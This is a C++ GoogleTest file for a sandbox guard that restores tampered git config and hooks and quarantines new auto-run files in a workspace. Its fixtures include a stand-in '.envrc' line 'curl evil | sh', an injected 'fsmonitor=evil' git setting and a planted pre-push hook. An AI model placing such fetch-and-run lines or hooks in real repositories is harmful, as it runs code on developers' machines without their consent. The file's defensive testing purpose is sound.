#include "lathe/sandbox/name_guard.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

namespace lathe::sandbox {
namespace {

namespace fs = std::filesystem;
using Finding = NameGuard::Finding;
using Kind = Finding::Kind;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

class NameGuards : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string pattern = (fs::temp_directory_path() / "lathe-guard-XXXXXX").string();
    ASSERT_NE(mkdtemp(pattern.data()), nullptr);
    outside_ = pattern;
    root_ = outside_ + "/w";
    fs::create_directories(root_ + "/.git/hooks");
    put(".git/config", "[core]\n");
    put(".git/hooks/commit", "ours\n");
  }
  void TearDown() override { fs::remove_all(outside_); }

  void put(const std::string& path, const std::string& text) const {
    fs::create_directories(fs::path(root_ + "/" + path).parent_path());
    std::ofstream(root_ + "/" + path) << text;
  }
  [[nodiscard]] std::string get(const std::string& path) const {
    std::ostringstream text;
    text << std::ifstream(root_ + "/" + path).rdbuf();
    return text.str();
  }
  std::vector<Finding> check(NameGuard& guard) {
    auto found = guard.check([this](std::string_view bytes) -> base::Result<std::string> {
      kept_.emplace_back(bytes);
      return "blob" + std::to_string(kept_.size());
    });
    EXPECT_TRUE(found.ok());
    return found.ok() ? *found : std::vector<Finding>();
  }

  std::string outside_;
  std::string root_;
  std::vector<std::string> kept_;
};

TEST_F(NameGuards, NothingChangedIsNothingFound) {
  NameGuard guard(root_, NameGuard::Scope::kAllNames);
  EXPECT_THAT(check(guard), IsEmpty());
  ASSERT_TRUE(guard.remember().ok());
  put("src/a.c", "int a;\n");
  put(".git/index", "x");
  EXPECT_THAT(check(guard), IsEmpty());
}

TEST_F(NameGuards, WhatChangedHasItsPreviousBytesAndModeAgain) {
  chmod((root_ + "/.git/hooks/commit").c_str(), 0755);
  NameGuard guard(root_, NameGuard::Scope::kAllNames);
  ASSERT_TRUE(guard.remember().ok());
  put(".git/config", "[core]\nfsmonitor=evil\n");
  fs::remove_all(root_ + "/.git/hooks");
  EXPECT_THAT(check(guard),
              ElementsAre(Finding{Kind::kRestored, ".git/config", ""}, Finding{Kind::kRestored, ".git/hooks", ""},
                          Finding{Kind::kRestored, ".git/hooks/commit", ""}));
  EXPECT_EQ(get(".git/config"), "[core]\n");
  EXPECT_EQ(get(".git/hooks/commit"), "ours\n");
  struct stat status{};
  ASSERT_EQ(stat((root_ + "/.git/hooks/commit").c_str(), &status), 0);
  EXPECT_EQ(status.st_mode & 0777U, 0755U);
  ASSERT_TRUE(guard.remember().ok());
  EXPECT_THAT(check(guard), IsEmpty());
}

TEST_F(NameGuards, WhatIsNewIsPutAside) {
  for (const auto scope : {NameGuard::Scope::kNewNames, NameGuard::Scope::kAllNames}) {
    kept_.clear();
    NameGuard guard(root_, scope);
    ASSERT_TRUE(guard.remember().ok());
    put(".vscode/tasks.json", "run me\n");
    put(".vscode/deep/more", "too\n");
    put(".envrc", "curl evil | sh\n");
    EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kQuarantined, ".envrc", "blob1"},
                                          Finding{Kind::kQuarantined, ".vscode", "blob2"}));
    EXPECT_FALSE(fs::exists(root_ + "/.vscode"));
    EXPECT_FALSE(fs::exists(root_ + "/.envrc"));
    EXPECT_THAT(kept_[1], HasSubstr("run me\n"));
    EXPECT_THAT(kept_[1], HasSubstr("too\n"));
  }
}

TEST_F(NameGuards, NewHookInAnOldFolderIsPutAside) {
  NameGuard guard(root_, NameGuard::Scope::kAllNames);
  ASSERT_TRUE(guard.remember().ok());
  put(".git/hooks/pre-push", "evil\n");
  EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kQuarantined, ".git/hooks/pre-push", "blob1"}));
  EXPECT_TRUE(fs::exists(root_ + "/.git/hooks/commit"));
}

TEST_F(NameGuards, LinkThatTakesThePlaceOfAFolderLeadsNowhere) {
  const std::string other = outside_ + "/other";
  fs::create_directories(other + "/hooks");
  std::ofstream(other + "/hooks/theirs") << "keep\n";
  NameGuard guard(root_, NameGuard::Scope::kAllNames);
  ASSERT_TRUE(guard.remember().ok());
  fs::rename(root_ + "/.git", root_ + "/moved");
  fs::create_symlink(other, root_ + "/.git");
  const auto found = check(guard);
  EXPECT_THAT(found, ::testing::Contains(Finding{Kind::kQuarantined, ".git", "blob1"}));
  EXPECT_FALSE(fs::is_symlink(root_ + "/.git"));
  EXPECT_TRUE(fs::exists(other + "/hooks/theirs"));
}

TEST_F(NameGuards, NewVirtualEnvironmentStaysAndIsReported) {
  NameGuard guard(root_, NameGuard::Scope::kNewNames);
  ASSERT_TRUE(guard.remember().ok());
  put(".venv/pyvenv.cfg", "home = /usr\n");
  EXPECT_THAT(check(guard), ElementsAre(Finding{Kind::kTainted, ".venv", ""}));
  EXPECT_TRUE(fs::exists(root_ + "/.venv/pyvenv.cfg"));
}

}  // namespace
}  // namespace lathe::sandbox
